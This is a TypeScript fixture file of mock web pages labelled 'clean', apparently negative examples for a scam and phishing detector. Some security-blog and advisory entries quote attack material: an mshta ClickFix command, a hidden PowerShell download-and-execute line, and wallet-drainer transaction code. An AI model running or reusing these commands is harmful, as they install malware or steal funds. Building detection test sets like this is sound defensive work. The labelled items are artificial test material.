import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cardFields, cardJs, doc, mobileCss, siteCss } from '../parts/zu-kit.js';
import { apk, fileRoute, jsRoute, jsonRoute, pe } from '../parts/e-bin.js';

const art = (o: { title: string; lang?: string; dir?: 'rtl'; site: string; accent: string; body: string }): string =>
  doc({ title: o.title, lang: o.lang, dir: o.dir, css: siteCss(o.accent), body: `<div class="bar"><div class="in"><span class="logo">${o.site}</span></div></div><div class="content"><article>${o.body}</article></div><div class="sitefoot"><div class="in">© 2025 ${o.site}</div></div>` });

export const entries: Entry[] = [
{
  id: 'zu-clean-news-tr-sms-dolandiricilik',
  label: 'clean',
  kind: 'news-quoting-lures',
  url: 'https://www.haberturk-ekonomi.com.tr/teknoloji/sahte-ptt-sms-dolandiriciligi-2025',
  body: art({ title: 'Sahte PTT ve e-Devlet SMS\'lerine dikkat', lang: 'tr', site: 'Ekonomi Haber', accent: '#b50000', body: `<h1>Sahte “gümrük ücreti” ve “vergi iadesi” SMS'lerine dikkat</h1><p>Son haftalarda vatandaşlara gönderilen sahte mesajlarda şu ifadeler kullanılıyor:</p><blockquote>PTT: Gonderiniz gumrukte bekliyor. 24,90 TL odeme yapilmazsa iade edilecek: pttkargo-gonderi[.]info</blockquote><blockquote>e-Devlet: 2.847,60 TL vergi iadeniz tanimlandi. Basvuru: turkiye-gov-iade[.]online</blockquote><p>Emniyet Genel Müdürlüğü Siber Suçlarla Mücadele Daire Başkanlığı, bu bağlantılara tıklanmaması, kart bilgisi ve SMS şifresi paylaşılmaması uyarısında bulundu. PTT gümrük ücretlerini yalnızca ptt.gov.tr üzerinden tahsil ediyor.</p>` }),
},
{
  id: 'zu-clean-blog-clickfix-ar',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://blog.amn-raqmi.net/clickfix-captcha-attacks',
  body: art({ title: 'هجمات ClickFix: الكابتشا المزيفة', lang: 'ar', dir: 'rtl', site: 'مدونة الأمن الرقمي', accent: '#2a5d84', body: `<h1>هجمات ClickFix: عندما تطلب منك "الكابتشا" فتح نافذة التشغيل</h1><p>رصدنا مواقع أفلام عربية مخترقة تعرض صفحة تحقق مزيفة تنسخ إلى الحافظة أمراً مثل:</p><pre dir="ltr">mshta https://cdn-verify-human[.]top/v/84291.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 84291</pre><p>ثم تطلب الضغط على Win+R ثم Ctrl+V ثم Enter. لا توجد أي كابتشا حقيقية تطلب ذلك. للحماية يمكن تعطيل mshta عبر AppLocker ومراقبة مفتاح السجل RunMRU:</p><pre dir="ltr">reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU</pre>` }),
},
{
  id: 'zu-clean-cert-pl-inpost-advisory',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://cert.pl/posts/2025/03/kampanie-doplata-inpost/',
  body: art({ title: 'Kampanie „dopłata do paczki” i fałszywe faktury', lang: 'pl', site: 'CERT Polska', accent: '#1d3e6e', body: `<h1>Kampanie „dopłata do paczki” i fałszywe faktury z plikami LNK</h1><p>Obserwujemy łańcuchy przekierowań z krótkich linków w SMS: <code>inp.st-pl[.]click → trk-router[.]top → inpost-pl.doplata-paczka[.]com</code>, kończące się wyborem banku i fałszywą stroną logowania.</p><p>Równolegle rozsyłane są „faktury” HTML, które składają w przeglądarce archiwum ZIP z plikiem <code>Faktura_VAT_8812.pdf.lnk</code> uruchamiającym:</p><pre>powershell.exe -w hidden -c "iex(iwr https://e-faktura.allegro-platnosci[.]com/k.ps1 -UseB)"</pre><p>Podejrzane domeny zgłaszaj na <a href="https://incydent.cert.pl">incydent.cert.pl</a> lub SMS na numer 8080.</p>` }),
},
{
  id: 'zu-clean-drainer-writeup-code',
  label: 'clean',
  kind: 'security-blog-quoting-code',
  url: 'https://research.chainwatch.io/posts/ton-drainer-notcoin-clones',
  body: art({ title: 'Inside the TON drainer kits cloning Notcoin claims', site: 'ChainWatch Research', accent: '#0098ea', body: `<h1>Inside the TON drainer kits cloning Notcoin claims</h1><p>The kits use the legitimate TON Connect UI, then build a transaction that moves 97% of the balance:</p><pre>var bal = BigInt(j.balance); var send = (bal*97n/100n).toString();
await tc.sendTransaction({validUntil: now+360, messages: [{address: R, amount: send}]});</pre><p>Similar EVM kits request <code>eth_signTypedData_v4</code> on a Permit2 <code>PermitBatch</code> with max uint160 amounts. Wallets should display these clearly; users should never sign permits from airdrop sites. IOCs: notcoin-claim.app-ton[.]org, arbitrum-foundation.claims-ua[.]com.</p>` }),
},
{
  id: 'zu-clean-whatsapp-faq-codes',
  label: 'clean',
  kind: 'help-article',
  url: 'https://faq.whatsapp.com/1095301557782068/?locale=sw_KE',
  body: art({ title: 'Kuhusu misimbo ya uthibitishaji', lang: 'sw', site: 'WhatsApp Help Center', accent: '#075e54', body: `<h1>Usishiriki msimbo wako wa uthibitishaji wa WhatsApp</h1><p>Ukipokea SMS yenye msimbo wa tarakimu 6 bila kuuomba, mtu anajaribu kusajili nambari yako. Usiushiriki na mtu yeyote, hata rafiki, wala kuuweka kwenye tovuti yoyote.</p><p>Washa <b>Uthibitishaji wa hatua mbili</b>: Mipangilio → Akaunti → Uthibitishaji wa hatua mbili → Washa, kisha weka PIN ya tarakimu 6.</p>` }),
},
{
  id: 'zu-clean-telegram-desktop-download',
  label: 'clean',
  kind: 'official-installer-download',
  url: 'https://desktop.telegram.org/?setln=kk',
  body: doc({ title: 'Telegram Desktop', css: siteCss('#3390ec'), body: `<div class="bar"><div class="in"><span class="logo">Telegram Desktop</span></div></div><div class="content" style="text-align:center"><h1>Fast. Secure. Synced across all your devices.</h1><p><a class="btn" href="/dl/win64">Get Telegram for Windows x64</a></p><p><a href="/dl/win64_portable">Portable version</a> · <a href="https://apps.apple.com/app/telegram/id747648890">macOS</a> · <a href="/dl/linux">Linux</a></p><p class="muted">Version 5.12.3 · Source code on GitHub</p></div>` }),
  routes: {
    'desktop.telegram.org/dl/win64': redirectRoute(302, 'https://updates.tdesktop.com/tx64/tsetup-x64.5.12.3.exe'),
    'updates.tdesktop.com/tx64/tsetup-x64.5.12.3.exe': fileRoute(pe({ x64: true, strings: ['Telegram FZ-LLC', 'Inno Setup', 'Telegram Desktop Setup'] }), 'application/octet-stream', 'tsetup-x64.5.12.3.exe'),
  },
},
{
  id: 'zu-clean-mpesa-app-page',
  label: 'clean',
  kind: 'official-app-page',
  url: 'https://www.safaricom.co.ke/mpesa-app',
  body: doc({ title: 'M-PESA App | Safaricom', css: siteCss('#00a651'), body: `<div class="bar"><div class="in"><span class="logo">Safaricom</span></div></div><div class="content"><h1>The M-PESA App</h1><p>Send money, pay, save and borrow — all in one app.</p><p><a class="btn" href="https://play.google.com/store/apps/details?id=com.safaricom.mpesa.lifestyle">Get it on Google Play</a> <a class="btn" href="https://apps.apple.com/ke/app/m-pesa/id1574250766">App Store</a> <a class="btn" href="https://appgallery.huawei.com/app/C104517695">AppGallery</a></p><p class="muted">Only download the M-PESA App from official app stores.</p></div>` }),
},
{
  id: 'zu-clean-publisher-apk-ng',
  label: 'clean',
  kind: 'official-apk-download',
  url: 'https://www.palmpay.com/download',
  body: doc({ title: 'Download PalmPay', css: siteCss('#6a2cd8'), body: `<div class="bar"><div class="in"><span class="logo">PalmPay</span></div></div><div class="content"><h1>Download the PalmPay app</h1><p><a class="btn" href="https://play.google.com/store/apps/details?id=com.transsnet.palmpay">Google Play</a> <a class="btn" href="https://apps.apple.com/ng/app/palmpay/id1449874123">App Store</a></p><p>Can't access Google Play? Download the official APK directly: <a href="/download/palmpay-official.apk">palmpay-official.apk</a> (SHA-256 published below). PalmPay is licensed by the Central Bank of Nigeria; deposits insured by NDIC.</p><pre>SHA-256: 5e1b0c2c7a9d8f3e...</pre></div>` }),
  routes: { 'www.palmpay.com/download/palmpay-official.apk': fileRoute(apk('com.transsnet.palmpay', 'PalmPay', ['android.permission.INTERNET', 'android.permission.CAMERA']), 'application/vnd.android.package-archive', 'palmpay-official.apk') },
},
{
  id: 'zu-clean-bot-check-news',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://www.hespress.com/economie/bank-al-maghrib-taux-2025',
  body: doc({ title: 'Just a moment...', lang: 'fr', css: 'body{font-family:system-ui,Arial;margin:0}.m{max-width:60rem;margin:8rem auto;padding:0 1.5rem}.sp{width:28px;height:28px;border:3px solid #ddd;border-top-color:#f38020;border-radius:50%;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}',
    body: `<div class="m"><h1>www.hespress.com</h1><h2>Vérification que vous êtes un humain. Cela peut prendre quelques secondes.</h2><div class="sp"></div><p>www.hespress.com doit vérifier la sécurité de votre connexion avant de continuer.</p><p style="font-size:12px;color:#888">Ray ID: 8f2a91c4eb7d3a12 · Performance &amp; security</p></div><script>setTimeout(function(){document.cookie="cf_clearance=ok; path=/";location.replace("/economie/bank-al-maghrib-taux-2025?__cf_chl=ok")},4000)</script>` }),
  routes: { 'www.hespress.com/economie/bank-al-maghrib-taux-2025?__cf_chl=ok': htmlRoute(doc({ title: 'Bank Al-Maghrib maintient son taux directeur', lang: 'fr', css: siteCss('#0a4d8c'), body: '<div class="content"><article><h1>Bank Al-Maghrib maintient son taux directeur à 2,5%</h1><p>Le conseil de la banque centrale a décidé mardi de maintenir inchangé son taux directeur...</p></article></div>' })) },
},
{
  id: 'zu-clean-united24-crypto',
  label: 'clean',
  kind: 'charity-donation-crypto',
  url: 'https://u24.gov.ua/donate',
  body: doc({ title: 'UNITED24 — Donate', lang: 'uk', css: siteCss('#000') + '.addr{font-family:monospace;background:#f3f3f3;padding:8px;word-break:break-all}',
    body: `<div class="bar"><div class="in"><span class="logo">UNITED24</span></div></div><div class="content"><h1>Official fundraising platform of Ukraine</h1><p>Funds are transferred to official accounts of the National Bank of Ukraine and allocated by the ministries. Reports are published weekly.</p><div class="grid"><div class="panel"><h3>Card</h3><form method="post" action="/donate/card"><label>Amount, USD</label><input name="amt" value="25"><label>Direction</label><select name="dir"><option>Defense & Demining</option><option>Medical Aid</option><option>Rebuild Ukraine</option></select><button>Donate by card</button></form></div><div class="panel"><h3>Crypto</h3><p>USDT (TRC20):</p><div class="addr">TEFccmfQ38cZS1DTZVhsxKVDckA8Y6VfCC</div><p>BTC:</p><div class="addr">357a3So9CbsNfBBgFYACGvxxS6tMaDoa1P</div></div></div></div>` }),
},
{
  id: 'zu-clean-btcturk-login',
  label: 'clean',
  kind: 'licensed-exchange-login',
  url: 'https://kripto.btcturk.com/giris-yap',
  body: doc({ title: 'Giriş Yap | BtcTurk Kripto', lang: 'tr', css: mobileCss('#1b2fe5', '#0e1421') + '.card{background:#161c2c;color:#eee}.card p{color:#aab}',
    body: `<main class="wrap"><div class="card"><h1>BtcTurk | Kripto</h1><form method="post" action="/api/auth/login"><label>E-posta</label><input name="email" type="email"><label>Şifre</label><input name="password" type="password"><button>Giriş Yap</button></form><p>İki aşamalı doğrulama kodu sonraki adımda istenecektir. Adres çubuğunda yalnızca <b>kripto.btcturk.com</b> olduğundan emin olun.</p></div></main>` }),
},
{
  id: 'zu-clean-whitebit-deposit-page',
  label: 'clean',
  kind: 'licensed-exchange-app',
  url: 'https://whitebit.com/ua/balance/deposit/USDT',
  body: doc({ title: 'Поповнення USDT | WhiteBIT', lang: 'uk', css: siteCss('#1a1a1a') + '.addr{font-family:monospace;background:#f3f3f3;padding:10px}',
    body: `<div class="bar"><div class="in"><span class="logo">WhiteBIT</span><span>Баланс: 0.00 USDT</span></div></div><div class="content"><div class="panel" style="max-width:560px"><h2>Поповнення USDT</h2><label>Мережа</label><select><option>TRC20 (Tron)</option><option>ERC20</option></select><p>Ваша адреса для поповнення:</p><div class="addr">TJ2nb6h8QZpA3aG7Lx1mVrWc5eKyD9uHfN</div><p class="muted">Мінімальна сума поповнення: 1 USDT. Зарахування після 20 підтверджень мережі. Надсилайте лише USDT у мережі TRC20.</p></div></div>` }),
},
{
  id: 'zu-clean-blik-checkout-pl',
  label: 'clean',
  kind: 'shop-checkout-blik',
  url: 'https://sklep.kawiarnia-kopernik.pl/zamowienie/platnosc',
  body: doc({ title: 'Płatność — Kawiarnia Kopernik', lang: 'pl', css: mobileCss('#5b3a29'),
    body: `<header class="top"><span class="brand">Kawiarnia Kopernik · Toruń</span></header><main class="wrap"><div class="card"><h2>Zamówienie #2025-0318-44</h2><p>Kawa ziarnista Brazylia 1 kg, pierniki toruńskie ×2 — razem <b>129,00 zł</b> + dostawa InPost Paczkomat 14,99 zł.</p><form method="post" action="/zamowienie/platnosc/blik"><label>Kod BLIK</label><input name="blik" maxlength="6" inputmode="numeric" placeholder="000 000"><button>Zapłać 143,99 zł</button></form><p class="muted">Płatności obsługuje Przelewy24. Sprzedawca: Kopernik s.c., NIP 9562214418, ul. Szeroka 12, Toruń.</p></div></main>` }),
},
{
  id: 'zu-clean-mtn-data-bundles',
  label: 'clean',
  kind: 'carrier-own-payment',
  url: 'https://www.mtn.ng/personal/data/data-plans/',
  body: doc({ title: 'Data Plans | MTN Nigeria', css: siteCss('#ffcb05') + '.bar{color:#000}.bar .logo{color:#000}',
    body: `<div class="bar"><div class="in"><span class="logo">MTN</span></div></div><div class="content"><h1>Data Plans</h1><table><tr><th>Plan</th><th>Price</th><th>Validity</th><th>USSD</th></tr><tr><td>1GB</td><td>₦500</td><td>1 day</td><td>*312#</td></tr><tr><td>7GB</td><td>₦3,500</td><td>30 days</td><td>*312#</td></tr><tr><td>20GB</td><td>₦7,500</td><td>30 days</td><td>*312#</td></tr></table><p>Buy on the MyMTN app or with your card below.</p><form method="post" action="/personal/data/buy"><label>MTN number</label><input name="msisdn"><label>Plan</label><select name="plan"><option>7GB - ₦3,500</option></select><button>Buy now</button></form><p class="muted">MTN does not run giveaways that require sharing links on WhatsApp.</p></div>` }),
},
{
  id: 'zu-clean-licensed-lender-ke',
  label: 'clean',
  kind: 'licensed-loan-app-page',
  url: 'https://tala.co.ke/',
  body: doc({ title: 'Tala Kenya — Loans up to Ksh 50,000', css: siteCss('#1fbd83'),
    body: `<div class="bar"><div class="in"><span class="logo">Tala</span></div></div><div class="content"><h1>Get a loan in minutes</h1><p>Tala is a Digital Credit Provider licensed by the Central Bank of Kenya. Fees from 0.3% daily; see full terms before you borrow.</p><p><a class="btn" href="https://play.google.com/store/apps/details?id=com.inventureaccess.safarirahisi">Download on Google Play</a></p><p class="muted">Tala will never ask you to pay a fee before receiving a loan.</p></div>` }),
},
{
  id: 'zu-clean-ptt-gonderi-takip',
  label: 'clean',
  kind: 'post-own-tracking',
  url: 'https://gonderitakip.ptt.gov.tr/Track/Verify?q=RR489201715TR',
  body: doc({ title: 'Gönderi Takip | PTT', lang: 'tr', css: siteCss('#f7c600') + '.bar{color:#222}.bar .logo{color:#222}',
    body: `<div class="bar"><div class="in"><span class="logo">PTT</span></div></div><div class="content"><h1>Gönderi Takip: RR489201715TR</h1><table><tr><th>Tarih</th><th>İşlem</th><th>Yer</th></tr><tr><td>12.03.2025 09:14</td><td>Gümrük işlemleri tamamlandı</td><td>İstanbul Uluslararası</td></tr><tr><td>13.03.2025 11:40</td><td>Dağıtıma çıkarıldı</td><td>Kadıköy PTT</td></tr></table><p class="muted">Gümrük vergisi gerektiren gönderilerde ödeme yalnızca teslimat sırasında veya ptt.gov.tr üzerinden yapılır.</p></div>` }),
},
];
